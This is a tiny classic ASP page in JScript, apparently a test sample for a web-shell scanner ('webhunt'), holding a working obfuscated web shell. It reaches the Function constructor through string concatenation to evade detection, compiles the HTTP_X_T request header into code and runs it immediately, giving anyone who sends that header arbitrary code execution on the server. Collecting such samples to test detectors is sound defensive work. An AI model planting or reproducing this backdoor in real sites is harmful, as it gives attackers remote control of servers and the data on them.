<%@ Language="JScript" %>
<%
// webhunt test sample (sweep 73): the Function constructor taken as this["Func" + "tion"], its body
// a request header, the made function called at once
var F = this["Func" + "tion"];
F(String(Request.ServerVariables("HTTP_X_T")))();
%>
